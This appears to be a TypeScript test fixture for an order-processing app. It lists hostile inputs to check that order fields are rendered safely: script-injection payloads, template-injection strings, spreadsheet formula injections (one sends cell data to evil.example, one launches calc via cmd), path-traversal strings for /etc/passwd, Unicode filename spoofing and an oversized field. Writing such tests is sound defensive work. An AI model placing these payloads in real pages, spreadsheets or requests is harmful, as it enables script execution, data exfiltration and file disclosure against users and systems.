/** Set by whatever runs in the page although it is the text of an order. */
export const marker = 'hacked';

const run = `window.${marker}=1`;

/** Texts of people who mean harm, or of whoever copied them from somewhere. */
export const hostileTexts = [
  `<img src=x onerror="${run}">`,
  `<script>${run}</script>`,
  `"><svg onload=${run}>`,
  `</div><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}">click</a>`,
  `<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
  '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '../../../../etc/passwd',
  'C:\\Windows\\System32\\..\\win.ini',
  'Ann\u202Eegpj.exe \u2066inside',
  'bell\u0007 escape\u001b[31m null\u0000 line\u2028separator',
  'https://evil.example/pixel.png',
] as const;

/** A megabyte in one word, as of a system that put a file into a field. */
export const megabyte = `big${'W'.repeat(1_000_000)}`;

/** An order whose every text is hostile; its item has a code that can be scanned. */
export function hostileRow(orderId: string, text: string) {
  return {
    order_id: orderId,
    customer_email: text,
    customer_firstname: text,
    customer_lastname: text,
    shipping_address: { firstname: text, lastname: text, street: [text], city: text, country_id: text },
    shipping_method: text,
    shipping_description: text,
    priority: text,
    notes: text,
    gift_message: text,
    failure_reason: text,
    image: 'https://evil.example/pixel.png',
    items: [
      {
        item_id: 1,
        sku: `SKU ${text}`,
        name: text,
        qty: 1,
        barcode: 'CODE-A',
        image: `https://evil.example/${orderId}`,
      },
    ],
  };
}
